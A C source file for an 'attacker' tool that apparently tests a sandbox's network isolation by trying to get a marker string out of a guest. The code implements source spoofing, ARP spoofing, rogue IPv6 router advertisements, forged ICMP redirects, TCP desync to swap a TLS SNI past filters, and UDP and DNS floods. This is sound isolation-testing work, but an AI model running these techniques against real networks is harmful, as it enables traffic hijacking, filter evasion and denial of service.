/*
 * attacker TRY ARGUMENT...: one try to get MARK out of a cell, or into another place. Runs as root of a
 * guest. Prints what came back; whether anything got through is judged at the other end, where MARK is
 * looked for. Addresses are IPv4 (attacker6.c has the rest).
 *
 *   tcp ADDR PORT MARK              connect, send
 *   udp ADDR PORT MARK              one datagram
 *   dns ADDR udp|tcp NAME TYPE      a question; prints `rcode N`, then each address or `data N` octets, then
 *                                   `also ADDRESS` for those that nobody asked for
 *   ask ADDR NAME TYPE              the same by UDP with EDNS; before them `ede CODE TEXT`, last `ms N`
 *   ip PROTO FROM TO TTL MARK       a raw IP packet: another address, ICMP (1), GRE (47), IPIP (4)...
 *   spoof FROM SPORT TO PORT MARK   a UDP datagram with another source
 *   route VIA TO PORT MARK          a UDP datagram to VIA with a loose source route to TO
 *   fragments TO PORT MARK          a UDP datagram whose ports are in another fragment than MARK
 *   frame FROMMAC FROM TO PORT MARK a UDP datagram in a frame of another MAC; to all, when TO ends in .255
 *   desync KIND TO PORT NAME MARK   a connection, then by hand two hellos in its place: NAME's and MARK's, with
 *                                   a bad checksum, overlapping, sent again otherwise, out of order
 *   quote TO SRC SPORT DST DPORT MARK [5]  an ICMP error (or redirect) to TO that quotes a UDP packet of that flow
 *   six MARK                        IPv6 UDP to all nodes and, by its link-local address, to the gateway
 *   ra MARK                         an IPv6 router advertisement to all nodes
 *   arp ADDR                        says to all that ADDR is here, and asks for it
 *   ttl TO N                        UDP with TTL 1..N; prints who answered
 *   flood TO PORT N                 N flows, as fast as it goes
 *   dnsflood ADDR SECONDS           questions of random names, as fast as it goes
 */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <netinet/icmp6.h>
#include <netinet/ip.h>
#include <netinet/ip6.h>
#include <netinet/ip_icmp.h>
#include <netinet/tcp.h>
#include <netinet/udp.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define WAIT_MS 400 /* who needs an answer asks again */

static struct sockaddr_in at(const char *addr, const char *port)
{
	struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(port))};

	if (inet_pton(AF_INET, addr, &a.sin_addr) != 1)
		exit(2);
	return a;
}

static uint16_t sum(const void *data, size_t n, uint32_t s)
{
	const uint8_t *p = data;

	for (size_t i = 0; i + 1 < n; i += 2)
		s += (uint32_t)(p[i] << 8 | p[i + 1]);
	if (n % 2)
		s += (uint32_t)p[n - 1] << 8;
	while (s >> 16)
		s = (s & 0xffff) + (s >> 16);
	return htons((uint16_t)~s);
}

static int try_tcp(char **a)
{
	struct sockaddr_in to = at(a[0], a[1]);
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
	struct pollfd p = {fd, POLLOUT, 0};
	char buf[512];

	if (connect(fd, (struct sockaddr *)&to, sizeof(to)) < 0 && errno != EINPROGRESS)
		return 1;
	if (poll(&p, 1, WAIT_MS) != 1 || send(fd, a[2], strlen(a[2]), MSG_NOSIGNAL) < 0)
		return 1;
	p.events = POLLIN;
	ssize_t n = poll(&p, 1, WAIT_MS) == 1 ? recv(fd, buf, sizeof(buf), 0) : -1;
	if (n > 0)
		printf("%.*s\n", (int)n, buf);
	return n <= 0;
}

static int try_udp(char **a)
{
	struct sockaddr_in to = at(a[0], a[1]);
	int fd = socket(AF_INET, SOCK_DGRAM, 0), on = 1;
	struct pollfd p = {fd, POLLIN, 0};
	char buf[512];

	(void)setsockopt(fd, SOL_SOCKET, SO_BROADCAST, &on, sizeof(on));
	if (sendto(fd, a[2], strlen(a[2]), 0, (struct sockaddr *)&to, sizeof(to)) < 0)
		return 1;
	return !(poll(&p, 1, 500) == 1 && recv(fd, buf, sizeof(buf), 0) > 0);
}

/* --- DNS: just enough to ask, with labels and types that no library would send -------------- */

static size_t question(uint8_t *q, const char *name, int type)
{
	size_t at_ = 12;

	memset(q, 0, 12);
	q[0] = (uint8_t)random();
	q[1] = (uint8_t)random();
	q[2] = 1;
	q[5] = 1;
	while (*name) {
		size_t n = strcspn(name, ".");
		q[at_++] = (uint8_t)n;
		memcpy(q + at_, name, n);
		at_ += n;
		name += n + (name[n] == '.');
	}
	q[at_++] = 0;
	q[at_++] = (uint8_t)(type >> 8);
	q[at_++] = (uint8_t)type;
	q[at_++] = 0;
	q[at_++] = 1;
	return at_;
}

static void answers(const uint8_t *m, size_t n, size_t at_)
{
	printf("rcode %d\n", m[3] & 15);
	unsigned asked = (unsigned)(m[6] << 8 | m[7]),
		 all = asked + (unsigned)(m[8] << 8 | m[9]) + (unsigned)(m[10] << 8 | m[11]);
	for (unsigned i = 0; i < all && at_ < n; i++) {
		while (at_ < n && m[at_] != 0 && m[at_] < 192)
			at_ += m[at_] + 1U;
		at_ += at_ < n && m[at_] == 0 ? 1 : 2;
		if (at_ + 10 > n)
			return;
		unsigned type = (unsigned)(m[at_] << 8 | m[at_ + 1]),
			 len = (unsigned)(m[at_ + 8] << 8 | m[at_ + 9]);
		at_ += 10;
		if (type == 1 && len == 4 && at_ + 4 <= n)
			printf("%s%u.%u.%u.%u\n", i < asked ? "" : "also ", m[at_], m[at_ + 1], m[at_ + 2],
			       m[at_ + 3]);
		else if (type == 28 && len == 16 && at_ + 16 <= n) {
			char text[INET6_ADDRSTRLEN];
			printf("%s%s\n", i < asked ? "" : "also ",
			       inet_ntop(AF_INET6, m + at_, text, sizeof(text)));
		} else if (type == 41 && len >= 6 && at_ + len <= n && m[at_] == 0 &&
			   m[at_ + 1] == 15) /* RFC 8914 */
			printf("ede %u %.*s\n", (unsigned)(m[at_ + 4] << 8 | m[at_ + 5]), (int)len - 6,
			       (const char *)m + at_ + 6);
		else if (i < asked)
			printf("data %u\n", len);
		at_ += len;
	}
}

static int try_dns(char **a)
{
	struct sockaddr_in to = at(a[0], "53");
	int tcp = strcmp(a[1], "tcp") == 0,
	    fd = socket(AF_INET, (tcp ? SOCK_STREAM : SOCK_DGRAM) | SOCK_NONBLOCK, 0);
	struct pollfd p = {fd, POLLOUT, 0};
	uint8_t q[600], m[4096];
	size_t n = question(q + 2, a[2], atoi(a[3]));

	q[0] = (uint8_t)(n >> 8);
	q[1] = (uint8_t)n;
	if (connect(fd, (struct sockaddr *)&to, sizeof(to)) < 0 && errno != EINPROGRESS)
		return 1;
	if (poll(&p, 1, WAIT_MS) != 1 || send(fd, tcp ? q : q + 2, tcp ? n + 2 : n, MSG_NOSIGNAL) < 0)
		return 1;
	p.events = POLLIN;
	if (poll(&p, 1, 1500) != 1)
		return 1;
	ssize_t k = recv(fd, m, sizeof(m), 0);
	if (k < 14)
		return 1;
	answers(tcp ? m + 2 : m, (size_t)k - (tcp ? 2 : 0), n);
	return 0;
}

static int try_ask(char **a)
{
	static const uint8_t opt[] = {0, 0, 41, 4, 208, 0, 0, 0, 0, 0, 0};
	struct sockaddr_in to = at(a[0], "53");
	int fd = socket(AF_INET, SOCK_DGRAM, 0);
	struct pollfd p = {fd, POLLIN, 0};
	struct timespec from, until;
	uint8_t q[600], m[4096];
	size_t n = question(q, a[1], atoi(a[2]));

	q[11] = 1;
	memcpy(q + n, opt, sizeof(opt));
	clock_gettime(CLOCK_MONOTONIC, &from);
	if (connect(fd, (struct sockaddr *)&to, sizeof(to)) < 0 || send(fd, q, n + sizeof(opt), 0) < 0 ||
	    poll(&p, 1, 3000) != 1)
		return 1;
	ssize_t k = recv(fd, m, sizeof(m), 0);
	clock_gettime(CLOCK_MONOTONIC, &until);
	if (k < 14)
		return 1;
	answers(m, (size_t)k, n);
	printf("ms %ld\n", (until.tv_sec - from.tv_sec) * 1000 + (until.tv_nsec - from.tv_nsec) / 1000000);
	return 0;
}

/* --- packets ----------------------------------------------------------------------------------- */

static size_t ip_head(uint8_t *p, int proto, const char *from, const char *to, int ttl, size_t payload)
{
	struct iphdr ip = {.version = 4, .ihl = 5, .ttl = (uint8_t)ttl, .protocol = (uint8_t)proto};

	ip.tot_len = htons((uint16_t)(20 + payload));
	ip.id = htons((uint16_t)random());
	ip.saddr = at(from, "0").sin_addr.s_addr;
	ip.daddr = at(to, "0").sin_addr.s_addr;
	memcpy(p, &ip, 20);
	ip.check = sum(p, 20, 0);
	memcpy(p, &ip, 20);
	return 20;
}

static size_t udp_put(uint8_t *p, int from, int to, const char *mark)
{
	struct udphdr u = {.source = htons((uint16_t)from), .dest = htons((uint16_t)to)};

	u.len = htons((uint16_t)(8 + strlen(mark)));
	memcpy(p, &u, 8); /* no checksum: IPv4 allows it */
	memcpy(p + 8, mark, strlen(mark));
	return 8 + strlen(mark);
}

static int raw_send(const uint8_t *p, size_t n, const char *to)
{
	struct sockaddr_in a = at(to, "0");
	int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);

	if (fd < 0 || sendto(fd, p, n, 0, (struct sockaddr *)&a, sizeof(a)) < 0) {
		perror("raw");
		return 1;
	}
	return 0;
}

static int try_ip(char **a)
{
	uint8_t p[1600] = {0};
	int proto = atoi(a[0]);
	size_t head = proto == IPPROTO_ICMP ? 8 : proto == IPPROTO_IPIP ? 20 : proto == IPPROTO_GRE ? 4 : 0;
	size_t n = head + strlen(a[4]);

	memcpy(p + 20 + head, a[4], strlen(a[4]));
	if (proto == IPPROTO_ICMP) {
		p[20] = ICMP_ECHO;
		uint16_t c = sum(p + 20, n, 0);
		memcpy(p + 22, &c, 2);
	} else if (proto == IPPROTO_IPIP) {
		ip_head(p + 20, 17, a[1], a[2], 64, strlen(a[4]));
	} else if (proto == IPPROTO_GRE) {
		p[22] = 8; /* IPv4 inside */
	}
	ip_head(p, proto, a[1], a[2], atoi(a[3]), n);
	return raw_send(p, 20 + n, a[2]);
}

static int try_spoof(char **a)
{
	uint8_t p[1600];
	size_t n = udp_put(p + 20, atoi(a[1]), atoi(a[3]), a[4]);

	ip_head(p, IPPROTO_UDP, a[0], a[2], 64, n);
	return raw_send(p, 20 + n, a[2]);
}

static const char *my_addr(void)
{
	static char text[INET_ADDRSTRLEN];
	struct sockaddr_in a = at("192.0.2.1", "9"), me;
	socklen_t len = sizeof(me);
	int fd = socket(AF_INET, SOCK_DGRAM, 0);

	(void)connect(fd, (struct sockaddr *)&a, sizeof(a));
	(void)getsockname(fd, (struct sockaddr *)&me, &len);
	close(fd);
	return inet_ntop(AF_INET, &me.sin_addr, text, sizeof(text));
}

static int try_route(char **a)
{
	struct sockaddr_in via = at(a[0], "0"), to = at(a[1], a[2]);
	int fd = socket(AF_INET, SOCK_DGRAM, 0);
	/* NOP, LSRR, length, pointer, first hop: the kernel puts the hop in front and the end in its place */
	uint8_t opt[8] = {1, 131, 7, 4};

	memcpy(opt + 4, &via.sin_addr, 4);
	if (setsockopt(fd, IPPROTO_IP, IP_OPTIONS, opt, sizeof(opt)) < 0 ||
	    sendto(fd, a[3], strlen(a[3]), 0, (struct sockaddr *)&to, sizeof(to)) < 0) {
		perror("source route");
		return 1;
	}
	return 0;
}

static int try_fragments(char **a)
{
	uint8_t all[1600], p[1600];
	char text[300];
	int r = 0;

	(void)snprintf(text, sizeof(text), "%-24.24s%s", "..", a[2]);
	size_t n = udp_put(all, 4444, atoi(a[1]), text);
	uint16_t id = (uint16_t)random();
	/* the last first: it has no ports at all */
	for (int i = 1; i >= 0; i--) {
		size_t from = i ? 16 : 0, len = i ? n - 16 : 16;
		struct iphdr ip;
		ip_head(p, IPPROTO_UDP, my_addr(), a[0], 64, len);
		memcpy(&ip, p, 20);
		ip.id = id;
		ip.frag_off = htons((uint16_t)(i ? 16 / 8 : 0x2000));
		ip.check = 0;
		memcpy(p, &ip, 20);
		ip.check = sum(p, 20, 0);
		memcpy(p, &ip, 20);
		memcpy(p + 20, all + from, len);
		r |= raw_send(p, 20 + len, a[0]);
	}
	return r;
}

static int frame_send(const uint8_t *frame, size_t n)
{
	struct sockaddr_ll to = {
		.sll_family = AF_PACKET, .sll_ifindex = (int)if_nametoindex("eth0"), .sll_halen = 6};
	int fd = socket(AF_PACKET, SOCK_RAW, 0);

	if (fd < 0 || sendto(fd, frame, n, 0, (struct sockaddr *)&to, sizeof(to)) < 0) {
		perror("frame");
		return 1;
	}
	return 0;
}

static size_t eth(uint8_t *f, const uint8_t to[6], const uint8_t from[6], int type)
{
	memcpy(f, to, 6);
	memcpy(f + 6, from, 6);
	f[12] = (uint8_t)(type >> 8);
	f[13] = (uint8_t)type;
	return 14;
}

/* the gateway's MAC is the guest's with a 1 (net/link.c) */
static void macs(uint8_t me[6], uint8_t gateway[6])
{
	struct in_addr a = at(my_addr(), "0").sin_addr;
	struct ifreq ifr = {.ifr_name = "eth0"};
	uint32_t h = ntohl(a.s_addr);
	int fd = socket(AF_PACKET, SOCK_RAW, 0);

	(void)ioctl(fd, SIOCGIFHWADDR, &ifr);
	close(fd);
	memcpy(me, ifr.ifr_hwaddr.sa_data, 6);
	memcpy(gateway, (uint8_t[]){2, 1, 0, 0, (uint8_t)(h >> 8), (uint8_t)h}, 6);
}

static int try_frame(char **a)
{
	uint8_t f[1600], me[6], gw[6], from[6];
	unsigned m[6];

	macs(me, gw);
	if (sscanf(a[0], "%x:%x:%x:%x:%x:%x", &m[0], &m[1], &m[2], &m[3], &m[4], &m[5]) != 6)
		return 2;
	for (int i = 0; i < 6; i++)
		from[i] = (uint8_t)m[i];
	const char *last = strrchr(a[2], '.');
	if (last && strcmp(last, ".255") == 0)
		memset(gw, 255, 6);
	size_t n = eth(f, gw, from, ETH_P_IP);
	size_t u = udp_put(f + n + 20, 4444, atoi(a[3]), a[4]);
	ip_head(f + n, IPPROTO_UDP, a[1], a[2], 64, u);
	return frame_send(f, n + 20 + u);
}

static int try_ra(char **a)
{
	static const uint8_t all[6] = {0x33, 0x33, 0, 0, 0, 1};
	uint8_t f[300] = {0}, me[6], gw[6];
	size_t mark = strlen(a[0]);

	macs(me, gw);
	size_t n = eth(f, all, me, ETH_P_IPV6);
	struct ip6_hdr ip = {
		.ip6_nxt = IPPROTO_ICMPV6, .ip6_hlim = 255, .ip6_plen = htons((uint16_t)(16 + mark))};
	ip.ip6_vfc = 0x60;
	(void)inet_pton(AF_INET6, "fe80::1", &ip.ip6_src);
	(void)inet_pton(AF_INET6, "ff02::1", &ip.ip6_dst);
	memcpy(f + n, &ip, 40);
	uint8_t *ra = f + n + 40;
	ra[0] = ND_ROUTER_ADVERT;
	ra[4] = 64;
	ra[6] = 7; /* lifetime 0x708 */
	ra[7] = 8;
	memcpy(ra + 16, a[0], mark);
	uint16_t c = sum(ra, 16 + mark,
			 (uint32_t)(16 + mark) + IPPROTO_ICMPV6 +
				 (0xffffU & (uint16_t)~ntohs(sum(f + n + 8, 32, 0))));
	memcpy(ra + 2, &c, 2);
	return frame_send(f, n + 56 + mark);
}

static int try_six(char **a)
{
	uint8_t f[300] = {0}, me[6], gw[6];
	size_t mark = strlen(a[0]);
	int r = 0;

	macs(me, gw);
	for (int i = 0; i < 2; i++) {
		static const uint8_t all[6] = {0x33, 0x33, 0, 0, 0, 1};
		size_t n = eth(f, i ? gw : all, me, ETH_P_IPV6);
		struct ip6_hdr ip = {
			.ip6_nxt = IPPROTO_UDP, .ip6_hlim = 255, .ip6_plen = htons((uint16_t)(8 + mark))};
		ip.ip6_vfc = 0x60;
		(void)inet_pton(AF_INET6, "fe80::1", &ip.ip6_src);
		(void)inet_pton(AF_INET6, i ? "fe80::2" : "ff02::1", &ip.ip6_dst);
		memcpy(f + n, &ip, 40);
		udp_put(f + n + 40, 4444, 4444, a[0]);
		r |= frame_send(f, n + 48 + mark);
	}
	return r;
}

/* An error of type 3, code 4 (or of the type that is said): the quoted packet's octets after its head are MARK. */
static int quote(char **a, uint8_t type)
{
	uint8_t p[1600] = {0};
	size_t u = udp_put(p + 48, atoi(a[2]), atoi(a[4]), a[5]);

	p[20] = type;
	p[21] = type == ICMP_DEST_UNREACH ? ICMP_FRAG_NEEDED : ICMP_REDIR_HOST;
	p[26] = 2; /* an MTU of 512 */
	ip_head(p + 28, IPPROTO_UDP, a[1], a[3], 63, u);
	uint16_t c = sum(p + 20, 28 + u, 0);
	memcpy(p + 22, &c, 2);
	ip_head(p, IPPROTO_ICMP, my_addr(), a[0], 64, 28 + u);
	return raw_send(p, 48 + u, a[0]);
}

static int try_quote(char **a)
{
	return quote(a, ICMP_DEST_UNREACH);
}

static int try_redirect(char **a)
{
	return quote(a, (uint8_t)atoi(a[6]));
}

/* A TLS 1.2 hello with a name: as short as servers take it. */
static size_t hello_put(uint8_t *p, const char *name)
{
	size_t n = strlen(name), ext = n + 9 + 10, body = 2 + 32 + 1 + 4 + 2 + 2 + ext;
	uint8_t *at_ = p;
#define PUT16(x) (*at_++ = (uint8_t)((x) >> 8), *at_++ = (uint8_t)(x))
	*at_++ = 22;
	PUT16(0x301);
	PUT16(body + 4);
	*at_++ = 1;
	*at_++ = 0;
	PUT16(body);
	PUT16(0x303);
	memset(at_, 'r', 32);
	at_ += 32;
	*at_++ = 0;
	PUT16(2);
	PUT16(0xc02b);
	*at_++ = 1;
	*at_++ = 0;
	PUT16(ext);
	PUT16(0);
	PUT16(n + 5);
	PUT16(n + 3);
	*at_++ = 0;
	PUT16(n);
	memcpy(at_, name, n);
	at_ += n;
	PUT16(10); /* groups: P-256 */
	PUT16(4);
	PUT16(2);
	PUT16(23);
	PUT16(0xff01); /* no renegotiation */
	*at_++ = 0;
	*at_++ = 0;
	return (size_t)(at_ - p);
}

struct flow {
	struct sockaddr_in to;
	uint16_t sport;
	uint32_t seq, ack;
};

static int segment(const struct flow *f, uint32_t seq, const uint8_t *data, size_t n, int bad)
{
	uint8_t p[1600] = {0};
	struct tcphdr t = {.source = f->sport,
			   .dest = f->to.sin_port,
			   .seq = htonl(seq),
			   .ack_seq = htonl(f->ack),
			   .doff = 5,
			   .ack = 1,
			   .psh = 1,
			   .window = htons(60000)};

	ip_head(p, IPPROTO_TCP, my_addr(), inet_ntoa(f->to.sin_addr), 64, 20 + n);
	memcpy(p + 20, &t, 20);
	memcpy(p + 40, data, n);
	/* the pseudo header's sum: the addresses, the protocol, the length */
	uint16_t c = sum(p + 20, 20 + n,
			 (uint32_t)(uint16_t)~ntohs(sum(p + 12, 8, 0)) + 6 + 20 + (uint32_t)n);
	c = (uint16_t)(c ^ (bad ? 0x5a5a : 0));
	memcpy(p + 36, &c, 2);
	return raw_send(p, 40 + n, inet_ntoa(f->to.sin_addr));
}

static int try_desync(char **a)
{
	uint8_t good[600], evil[600], buf[2048];
	struct flow f = {.to = at(a[1], a[2])};
	struct sockaddr_in me;
	socklen_t len = sizeof(me);
	int raw = socket(AF_INET, SOCK_RAW, IPPROTO_TCP),
	    fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
	struct pollfd p = {raw, POLLIN, 0}, q = {fd, POLLIN, 0};
	char pad[300];

	/* of one length, so that one takes the other's place */
	(void)snprintf(pad, sizeof(pad), "%s", a[3]);
	size_t n = hello_put(good, pad), m = hello_put(evil, a[4]);
	if (raw < 0 || (connect(fd, (struct sockaddr *)&f.to, sizeof(f.to)) < 0 && errno != EINPROGRESS))
		return 1;
	(void)getsockname(fd, (struct sockaddr *)&me, &len);
	f.sport = me.sin_port;
	for (;;) {
		ssize_t k = poll(&p, 1, 1000) == 1 ? recv(raw, buf, sizeof(buf), 0) : -1;
		struct tcphdr t;
		if (k <= 0)
			return 1;
		if (k < 40)
			continue;
		memcpy(&t, buf + (size_t)(buf[0] & 15) * 4, 20);
		if (t.dest != f.sport || !t.syn || !t.ack)
			continue;
		f.seq = ntohl(t.ack_seq);
		f.ack = ntohl(t.seq) + 1;
		break;
	}
	if (strcmp(a[0], "checksum") == 0) {
		segment(&f, f.seq, good, n, 1);
		segment(&f, f.seq, evil, m, 0);
	} else if (strcmp(a[0], "overlap") == 0) {
		segment(&f, f.seq + 20, good + 20, n - 20, 0);
		segment(&f, f.seq, evil, m, 0);
	} else if (strcmp(a[0], "again") == 0) {
		segment(&f, f.seq, evil, m, 0);
		segment(&f, f.seq, good, n, 0);
	} else {
		segment(&f, f.seq + 5, evil + 5, m - 5, 0);
		segment(&f, f.seq + 5, good + 5, n - 5, 0);
		segment(&f, f.seq, evil, 5, 0);
	}
	return !(poll(&q, 1, 1000) == 1 && recv(fd, buf, sizeof(buf), 0) > 0);
}

static int try_arp(char **a)
{
	static const uint8_t all[6] = {255, 255, 255, 255, 255, 255};
	uint8_t f[60] = {0}, me[6], gw[6], buf[1600];
	struct in_addr who = at(a[0], "0").sin_addr;
	int fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ARP));
	struct in_addr mine = at(my_addr(), "0").sin_addr;

	macs(me, gw);
	size_t n = eth(f, all, me, ETH_P_ARP);
	memcpy(f + n, (uint8_t[]){0, 1, 8, 0, 6, 4, 0, 2}, 8); /* a reply that nobody asked for */
	memcpy(f + n + 8, me, 6);
	memcpy(f + n + 14, &who, 4);
	memcpy(f + n + 18, all, 6);
	memcpy(f + n + 24, &who, 4);
	if (frame_send(f, 42) != 0)
		return 1;
	f[n + 7] = 1; /* and a request: who has it? */
	memcpy(f + n + 14, &mine, 4);
	memset(f + n + 18, 0, 6);
	if (frame_send(f, 42) != 0)
		return 1;
	struct pollfd p = {fd, POLLIN, 0};
	while (poll(&p, 1, 400) == 1 && recv(fd, buf, sizeof(buf), 0) >= 42)
		if (buf[21] == 2 && memcmp(buf + 28, &who, 4) == 0 && memcmp(buf + 6, me, 6) != 0) {
			puts("answered");
			return 0;
		}
	return 1;
}

static int try_ttl(char **a)
{
	int fd = socket(AF_INET, SOCK_RAW, IPPROTO_ICMP), got = 0;
	struct pollfd p = {fd, POLLIN, 0};

	for (int ttl = 1; ttl <= atoi(a[1]); ttl++) {
		struct sockaddr_in to = at(a[0], "33434"), from;
		socklen_t len = sizeof(from);
		uint8_t buf[1600];
		int u = socket(AF_INET, SOCK_DGRAM, 0);
		(void)setsockopt(u, IPPROTO_IP, IP_TTL, &ttl, sizeof(ttl));
		(void)sendto(u, "t", 1, 0, (struct sockaddr *)&to, sizeof(to));
		close(u);
		while (poll(&p, 1, 400) == 1 &&
		       recvfrom(fd, buf, sizeof(buf), 0, (struct sockaddr *)&from, &len) > 0)
			if (buf[20] == ICMP_TIME_EXCEEDED) {
				puts(inet_ntoa(from.sin_addr));
				got = 1;
			}
	}
	return !got;
}

static int try_flood(char **a)
{
	struct sockaddr_in to = at(a[0], a[1]);
	int n = atoi(a[2]), made = 0, fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	uint8_t p[64];
	const char *me = my_addr();

	for (int i = 0; i < n; i++) {
		size_t u = udp_put(p + 20, 1024 + i % 64000, ntohs(to.sin_port) + i / 64000, "f");
		ip_head(p, IPPROTO_UDP, me, a[0], 64, u);
		made += sendto(fd, p, 20 + u, 0, (struct sockaddr *)&to, sizeof(to)) > 0;
	}
	printf("sent %d\n", made);
	return 0;
}

static int try_dnsflood(char **a)
{
	struct sockaddr_in to = at(a[0], "53");
	int fd = socket(AF_INET, SOCK_DGRAM, 0);
	time_t end = time(NULL) + atoi(a[1]);
	uint8_t q[600];
	char name[100];
	unsigned long n = 0;

	(void)connect(fd, (struct sockaddr *)&to, sizeof(to));
	while (time(NULL) < end)
		for (int i = 0; i < 64; i++) {
			(void)snprintf(name, sizeof(name), "f%lu.slow.evil.example", n++);
			(void)send(fd, q, question(q, name, 1), MSG_DONTWAIT);
		}
	printf("sent %lu\n", n);
	return 0;
}

int main(int argc, char **argv)
{
	static const struct {
		const char *name;
		int n, (*run)(char **a);
	} tries[] = {
		{"tcp", 3, try_tcp},     {"udp", 3, try_udp},
		{"dns", 4, try_dns},     {"ask", 3, try_ask},
		{"ip", 5, try_ip},       {"spoof", 5, try_spoof},
		{"route", 4, try_route}, {"fragments", 3, try_fragments},
		{"frame", 5, try_frame}, {"desync", 5, try_desync},
		{"quote", 6, try_quote}, {"quote", 7, try_redirect},
		{"six", 1, try_six},     {"ra", 1, try_ra},
		{"arp", 1, try_arp},     {"ttl", 2, try_ttl},
		{"flood", 3, try_flood}, {"dnsflood", 2, try_dnsflood},
	};

	srandom((unsigned)getpid());
	for (size_t i = 0; argc > 1 && i < sizeof(tries) / sizeof(tries[0]); i++)
		if (strcmp(argv[1], tries[i].name) == 0 && argc == tries[i].n + 2)
			return tries[i].run(argv + 2);
	fputs("usage: attacker TRY ARGUMENT...\n", stderr);
	return 2;
}
